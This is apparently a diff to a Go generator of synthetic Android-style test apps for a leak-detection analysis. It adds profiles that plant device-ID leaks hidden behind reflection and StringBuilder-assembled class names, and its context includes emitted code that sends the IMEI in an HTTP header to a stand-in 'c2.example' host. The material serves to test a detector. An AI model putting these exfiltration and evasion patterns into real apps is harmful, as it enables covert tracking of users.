@@ -57,6 +57,15 @@ type Profile struct {
 	PImeiToSms      float64 // identifier exfiltrated via SMS (malware)
 	PImeiToNet      float64 // identifier in an HTTP header (malware)
 	PBroadcastRelay float64 // received broadcasts forwarded as SMS (malware)
+
+	// Reflective leak patterns (the evasion technique the constant-
+	// propagation pass exists to see through).
+	PReflectLog   float64 // identifier logged via Class.forName("const").getMethod("leak").invoke
+	PReflectSBLog float64 // same, but the class name is assembled through a StringBuilder
+	// PReflectDyn plants a genuinely dynamic reflective chain (class name
+	// from the incoming intent): no constant analysis can resolve it, so
+	// it contributes no leak — only unresolved soundness entries.
+	PReflectDyn float64
 }
 
 // Play is the Google-Play-like population profile.
@@ -87,6 +96,25 @@ var Malware = Profile{
 	PImeiToNet:      0.40,
 }
 
+// Reflection is the evasion-pattern profile: apps that route identifier
+// leaks through the reflection API instead of direct calls. Most use
+// constant (or StringBuilder-assembled) names the constant-propagation
+// pass resolves; about half additionally contain a genuinely dynamic
+// chain that must surface in the soundness report rather than the leak
+// report.
+var Reflection = Profile{
+	Name:          "reflection",
+	Activities:    minMax{1, 3},
+	Services:      minMax{0, 1},
+	Helpers:       minMax{2, 5},
+	NoiseMethods:  minMax{2, 4},
+	NoiseStmts:    minMax{3, 8},
+	PImeiToLog:    0.40,
+	PReflectLog:   0.80,
+	PReflectSBLog: 0.50,
+	PReflectDyn:   0.50,
+}
+
 // Stress is a deliberately oversized profile, an order of magnitude above
 // Play: every leak pattern enabled, dozens of helper classes. The
 // scalability and resilience tests use it as the app that is expensive
@@ -114,6 +142,14 @@ type App struct {
 	InjectedLeaks int
 	// LeakKinds names the planted patterns.
 	LeakKinds []string
+	// ReflectiveLeaks counts how many of InjectedLeaks flow through a
+	// resolvable reflective call: they are found only when the analysis
+	// runs with reflection resolution on.
+	ReflectiveLeaks int
+	// DynamicReflectiveChains counts planted reflective chains whose
+	// class name is genuinely dynamic: never a leak, always unresolved
+	// soundness entries.
+	DynamicReflectiveChains int
 	// Classes counts the generated classes (a size proxy).
 	Classes int
 }
@@ -148,6 +184,21 @@ func Generate(r *rand.Rand, p Profile, idx int) App {
 	if nRcv > 0 {
 		roll(p.PBroadcastRelay, "broadcast->sms")
 	}
+	reflective := 0
+	if p.PReflectLog > 0 && r.Float64() < p.PReflectLog {
+		inj = append(inj, injection{"imei->reflect-log"})
+		reflective++
+	}
+	if p.PReflectSBLog > 0 && r.Float64() < p.PReflectSBLog {
+		inj = append(inj, injection{"imei->reflect-sb-log"})
+		reflective++
+	}
+	// A dynamic chain is not a leak: it is distributed to the first
+	// activity directly, bypassing the injection bookkeeping.
+	dynChains := 0
+	if p.PReflectDyn > 0 && r.Float64() < p.PReflectDyn {
+		dynChains = 1
+	}
 
 	// Helper classes (benign noise).
 	for h := 0; h < nHelp; h++ {
@@ -165,6 +216,9 @@ func Generate(r *rand.Rand, p Profile, idx int) App {
 			a := i % nAct
 			perActivity[a] = append(perActivity[a], in.kind)
 		}
+	}
+	for d := 0; d < dynChains; d++ {
+		perActivity[0] = append(perActivity[0], "imei->reflect-dyn")
 	}
 
 	var comps []string
@@ -185,16 +239,22 @@ func Generate(r *rand.Rand, p Profile, idx int) App {
 		comps = append(comps, "receiver:"+name)
 	}
 
+	if g.needReflSink {
+		g.emitReflSink()
+	}
+
 	kinds := make([]string, 0, len(inj))
 	for _, in := range inj {
 		kinds = append(kinds, in.kind)
 	}
 	return App{
-		Name:          g.pkg,
-		Files:         g.files(comps),
-		InjectedLeaks: len(inj),
-		LeakKinds:     kinds,
-		Classes:       g.classes,
+		Name:                    g.pkg,
+		Files:                   g.files(comps),
+		InjectedLeaks:           len(inj),
+		LeakKinds:               kinds,
+		ReflectiveLeaks:         reflective,
+		DynamicReflectiveChains: dynChains,
+		Classes:                 g.classes,
 	}
 }
 
@@ -211,12 +271,13 @@ func GenerateCorpus(p Profile, n int, seed int64) []App {
 // ---------------------------------------------------------------- emitter
 
 type gen struct {
-	r       *rand.Rand
-	pkg     string
-	code    strings.Builder
-	classes int
-	uniq    int
-	needPwd bool
+	r            *rand.Rand
+	pkg          string
+	code         strings.Builder
+	classes      int
+	uniq         int
+	needPwd      bool
+	needReflSink bool
 }
 
 func (g *gen) fresh(stem string) string {
@@ -346,7 +407,58 @@ func (g *gen) emitLeak(kind string, nHelpers int) {
 		fmt.Fprintf(&g.code, "    %s = new java.net.URL(\"http://c2.example/ping\")\n", u)
 		fmt.Fprintf(&g.code, "    %s = %s.openConnection()\n", c, u)
 		fmt.Fprintf(&g.code, "    %s.setRequestProperty(\"X-Id\", %s)\n", c, w)
+	case "imei->reflect-log":
+		v := g.imei()
+		w := g.launder(v, nHelpers)
+		clz := g.fresh("clz")
+		fmt.Fprintf(&g.code, "    %s = java.lang.Class.forName(%q)\n", clz, g.pkg+".ReflSink")
+		g.emitReflectInvoke(clz, w)
+	case "imei->reflect-sb-log":
+		// The class name is laundered through a StringBuilder: the
+		// constant-propagation pass must track append/toString to resolve
+		// the chain.
+		v := g.imei()
+		w := g.launder(v, nHelpers)
+		sb, cn, clz := g.fresh("sb"), g.fresh("cn"), g.fresh("clz")
+		fmt.Fprintf(&g.code, "    %s = new java.lang.StringBuilder()\n", sb)
+		fmt.Fprintf(&g.code, "    %s.append(%q)\n", sb, g.pkg+".Refl")
+		fmt.Fprintf(&g.code, "    %s.append(\"Sink\")\n", sb)
+		fmt.Fprintf(&g.code, "    %s = %s.toString()\n", cn, sb)
+		fmt.Fprintf(&g.code, "    %s = java.lang.Class.forName(%s)\n", clz, cn)
+		g.emitReflectInvoke(clz, w)
+	case "imei->reflect-dyn":
+		// The class name comes from the incoming intent — unresolvable by
+		// any constant analysis. The would-be leak stays invisible; the
+		// chain must show up in the soundness report instead.
+		v := g.imei()
+		w := g.launder(v, nHelpers)
+		it, cn, clz := g.fresh("it"), g.fresh("cn"), g.fresh("clz")
+		fmt.Fprintf(&g.code, "    %s = this.getIntent()\n", it)
+		fmt.Fprintf(&g.code, "    %s = %s.getStringExtra(\"cls\")\n", cn, it)
+		fmt.Fprintf(&g.code, "    %s = java.lang.Class.forName(%s)\n", clz, cn)
+		g.emitReflectInvoke(clz, w)
 	}
+}
+
+// emitReflectInvoke writes the newInstance/getMethod/invoke tail of a
+// reflective chain, passing val through the invoke boxing boundary.
+func (g *gen) emitReflectInvoke(clz, val string) {
+	g.needReflSink = true
+	obj, mth, rr := g.fresh("obj"), g.fresh("mth"), g.fresh("rr")
+	fmt.Fprintf(&g.code, "    %s = %s.newInstance()\n", obj, clz)
+	fmt.Fprintf(&g.code, "    %s = %s.getMethod(\"leak\")\n", mth, clz)
+	fmt.Fprintf(&g.code, "    %s = %s.invoke(%s, %s)\n", rr, mth, obj, val)
+}
+
+// emitReflSink writes the reflective call target: an ordinary class
+// whose leak method logs its argument. It is only ever reached through
+// the bridges the constant-propagation pass materializes.
+func (g *gen) emitReflSink() {
+	g.classes++
+	fmt.Fprintf(&g.code, "class %s.ReflSink {\n", g.pkg)
+	g.code.WriteString("  method leak(msg: java.lang.String): void {\n")
+	g.code.WriteString("    android.util.Log.i(\"refl\", msg)\n")
+	g.code.WriteString("    return\n  }\n}\n")
 }
 
 // imei emits the device-id source and returns the local holding it.
